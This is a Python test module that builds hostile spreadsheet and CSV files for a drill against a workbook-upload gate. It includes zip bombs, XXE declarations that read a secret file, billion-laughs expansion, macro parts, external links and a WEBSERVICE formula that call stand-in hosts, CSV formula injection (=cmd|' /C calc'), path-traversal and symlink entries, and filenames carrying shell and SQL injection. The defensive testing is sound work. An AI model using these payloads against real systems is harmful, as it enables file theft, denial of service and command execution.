"""The crafted files of the drill: bombs, declarations, macros, locked and foreign books, odd names and texts."""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Final

import openpyxl

from k2k_desktop.core.workbook_gate import MOST_INFLATED

MB: Final = 1 << 20
SHEET: Final = "xl/worksheets/sheet1.xml"
SECRET: Final = "rahsia-kenari-5991"  # stands in a file beside, which nothing may ever read
BESIDE: Final = "rahsia.txt"
_OLE: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_RELATION: Final = (
    '<Relationship Id="rId9" TargetMode="External" Target="{target}" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"/></Relationships>'
)
Make = Callable[[Path], bytes]


@dataclass(frozen=True)
class Crafted:
    """A hostile file: what it is, its name on the disk, how its bytes are made beside the secret, and whether it must
    be refused, must be read, or may be either."""

    what: str
    make: Make
    name: str = "senarai.xlsx"
    must: str = "refused"


def crafted() -> Iterator[Crafted]:
    """All of them, the bombs first."""
    yield from _bombs()
    yield from _declarations()
    yield from _programs()
    yield from _foreign()
    yield from _texts()
    yield from _names()


def book(_folder: Path) -> bytes:
    """An honest list."""
    made, out = openpyxl.Workbook(), io.BytesIO()
    page = made.active
    assert page is not None
    page.title = "Senarai"
    for row in (["Nama", "No. KP", "Telefon"], ["Aminah binti Ali", "880101145566", "012-000 0044"]):
        page.append(row)
    made.save(out)
    return out.getvalue()


def changed(part: str, old: bytes, new: bytes | Callable[[Path], bytes]) -> Make:
    """The honest list with *old* in *part* replaced by *new*."""

    def make(folder: Path) -> bytes:
        given = new(folder) if callable(new) else new
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(book(folder))) as was, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as now:
            for name in was.namelist():
                data = was.read(name)
                now.writestr(name, data.replace(old, given, 1) if name == part else data)
        return out.getvalue()

    return make


def added(*parts: tuple[str, bytes], times: int = 1) -> Make:
    """The honest list with *parts* more, what each holds so many *times*."""

    def make(folder: Path) -> bytes:
        out = io.BytesIO(book(folder))
        with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
            for name, data in parts:
                archive.writestr(name, data * times)
        return out.getvalue()

    return make


def _bombs() -> Iterator[Crafted]:
    yield Crafted("a bomb in a sheet", changed(SHEET, b"<sheetData>", lambda _f: b"<sheetData>" + b" " * 120 * MB))
    yield Crafted("a bomb in a part nobody reads", added(("xl/a.xml", b" "), times=MOST_INFLATED + MB))
    yield Crafted(
        "a bomb of many parts", added(*((f"xl/media/{n}.xml", b" ") for n in range(40)), times=6 * MB), must="either"
    )
    yield Crafted("a bomb that lies about its size", _lying)
    yield Crafted("two thousand parts", added(*((f"xl/media/{n}.png", b"") for n in range(2_100))))
    yield Crafted(
        "a million rows",
        changed(SHEET, b"<sheetData>", lambda _f: b"<sheetData>" + b"<row/>" * 1_000_000),
        must="either",
    )
    cell = b'<c t="inlineStr"><is><t>x</t></is></c>'
    yield Crafted("a row of fifty thousand cells", changed(SHEET, b"<sheetData>",
                  lambda _f: b"<sheetData><row>" + cell * 50_000 + b"</row>"))  # fmt: skip
    for address in (b"XFD1048576", b"C1048576", b"ZZZ9999999"):
        yield Crafted(f"a cell at {address.decode()}", changed(SHEET, b'r="C2"', b'r="' + address + b'"'))
    yield Crafted("a lying dimension", changed(SHEET, b'ref="A1:C2"', b'ref="A1:XFD1048576"'), must="read")
    yield Crafted("one sheet under many names", _many_names)
    yield Crafted("a million merged cells", changed(SHEET, b"</sheetData>",
                  lambda _f: b"</sheetData><mergeCells>" + b'<mergeCell ref="A1:B2"/>' * 1_000_000 + b"</mergeCells>"),
                  must="either")  # fmt: skip
    yield Crafted(
        "a text of ten million characters",
        changed(SHEET, b"Aminah binti Ali", lambda _f: b"A" * 10 * MB),
        must="either",
    )
    yield Crafted("elements a hundred thousand deep", changed(SHEET, b"<sheetData>",
                  lambda _f: b"<sheetData>" + b"<a>" * 100_000 + b"</a>" * 100_000), must="either")  # fmt: skip
    yield Crafted("two books in one", lambda folder: book(folder) + book(folder), must="either")


def _lying(folder: Path) -> bytes:
    data, size = (
        bytearray(added(("xl/media/a.xml", b" "), times=60_000_000)(folder)),
        (60_000_000).to_bytes(4, "little"),
    )
    at = data.find(size)
    while at >= 0:
        data[at : at + 4] = (100).to_bytes(4, "little")
        at = data.find(size)
    return bytes(data)


def _many_names(folder: Path) -> bytes:
    name = b'<sheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" name="S%d" ' \
           b'sheetId="%d" r:id="rId1"/>'  # fmt: skip
    many = b"".join(name % (number, number) for number in range(2, 5_000))
    return changed("xl/workbook.xml", b"</sheets>", many + b"</sheets>")(folder)


def _declarations() -> Iterator[Crafted]:
    laughs = b'<!DOCTYPE a [<!ENTITY a "%s">%s]>' % (
        b"ha" * 50, b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(12))
    )  # fmt: skip

    def reads(folder: Path) -> bytes:
        return f'<!DOCTYPE a [<!ENTITY x SYSTEM "{(folder / BESIDE).as_uri()}">]><worksheet'.encode()

    def outside(folder: Path) -> bytes:
        return f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{(folder / BESIDE).as_uri()}"> %x;]><worksheet'.encode()

    yield Crafted("a declaration that reads a file", changed(SHEET, b"<worksheet", reads))
    yield Crafted("a declaration with a parameter", changed(SHEET, b"<worksheet", outside))
    yield Crafted("a declaration that grows", changed(SHEET, b"<worksheet", laughs + b"<worksheet"))
    yield Crafted("a declaration in small letters", changed(SHEET, b"<worksheet", b"<!doctype a><worksheet"))
    yield Crafted("a declaration in the workbook", changed("xl/workbook.xml", b"<workbook", laughs + b"<workbook"))
    far = b"<!--" + random.Random(1).randbytes(1_500_000).hex().encode() + b"--><!DOCTYPE a><worksheet"
    yield Crafted("a declaration far behind", changed(SHEET, b"<worksheet", far))
    wide = b"<!DOCTYPE a><worksheet/>".decode().encode("utf-16")
    yield Crafted("a declaration in another encoding", added((SHEET, wide)), must="refused")


def _programs() -> Iterator[Crafted]:
    for name in ("xl/vbaProject.bin", "xl/VBAPROJECT.BIN", "xl/macrosheets/sheet1.xml"):
        yield Crafted(f"macros as {name}", added((name, b"x")))
    relations = "xl/_rels/workbook.xml.rels"
    for target in ("http://teratai.invalid/a.xlsx", f"file:///{BESIDE}", "\\\\penjahat.invalid\\a"):
        link = _RELATION.format(target=target).encode()
        yield Crafted(f"a link to {target}", changed(relations, b"</Relationships>", link), must="either")
    formula = b'<c r="C2"><f>WEBSERVICE("http://x.invalid/"&amp;A2)</f><v>0</v></c>'
    yield Crafted("a formula that calls out", changed(SHEET, b"</row>", formula + b"</row>"), must="either")


def _foreign() -> Iterator[Crafted]:
    locked = _OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le")
    yield Crafted("a locked book", lambda _f: locked)
    yield Crafted("an old book", lambda _f: _OLE + b"\0" * 600, "senarai.xls")
    yield Crafted("a letter", partial(_archive, "word/document.xml", "<a/>"))
    yield Crafted(
        "a book of another kind", partial(_archive, "mimetype", "application/vnd.oasis.opendocument.spreadsheet")
    )
    yield Crafted("half a book", lambda folder: book(folder)[:2_000])
    yield Crafted("nothing", lambda _f: b"")
    yield Crafted("a signature alone", lambda _f: b"PK\x03\x04")
    yield Crafted("a paper", lambda _f: b"%PDF-1.7 Nama")
    yield Crafted("a page of the web", lambda _f: b"<html><table><tr><td>Nama</td></tr></table>", "senarai.csv")
    yield Crafted("a picture", lambda _f: b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "senarai.csv")
    yield Crafted("a program", lambda _f: b"MZ\x90\0" * 99, "senarai.exe")


def _archive(name: str, text: str, _folder: Path) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, text)
    return out.getvalue()


def _texts() -> Iterator[Crafted]:
    head = b"Nama,Telefon\n"
    csv = "senarai.csv"
    yield Crafted("a quote that never closes", lambda _f: head + b'"' + b"a,b\n" * 400_000, csv)
    yield Crafted("too many lines", lambda _f: head + b"a,b\n" * 150_000, csv)
    yield Crafted("a line of forty million", lambda _f: head + b"a," * 20_000_000, csv)
    yield Crafted("ten million short lines", lambda _f: head + b"a,b\n" * 10_000_000, csv)
    yield Crafted("bytes of any kind", lambda _f: bytes(range(256)) * 4_000, csv)
    yield Crafted("letters of two bytes, unmarked", lambda _f: (head * 40).decode().encode("utf-16-le"), csv, "either")
    yield Crafted("a text that runs", lambda _f: head + b"=cmd|' /C calc'!A0,+60\n" * 40, csv, "read")


def _names() -> Iterator[Crafted]:
    for name in ("../../jahat.xml", "/etc/jahat.xml", "C:\\jahat.xml", "xl/CON", "xl/a.xml:b", "xl/" + "a" * 4_000):
        yield Crafted(f"a part called {name[:20]}", added((name, b"x")), must="either")
    yield Crafted("a part that is a link", _linked, must="either")
    for name in ("=cmd|' C calc'!A0.xlsx", "$(touch jahat).xlsx", "-rf.xlsx", "a\u202excel.xlsx", "<b>a.xlsx",
                 "'; DROP TABLE resident;--.xlsx", "k" * 120 + ".xlsx", "CON.xlsx"):  # fmt: skip
        yield Crafted(f"a file called {name[:20]}", book, name, "read")


def _linked(folder: Path) -> bytes:
    out = io.BytesIO(book(folder))
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("xl/sharedStrings.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, str(folder / BESIDE))
    return out.getvalue()
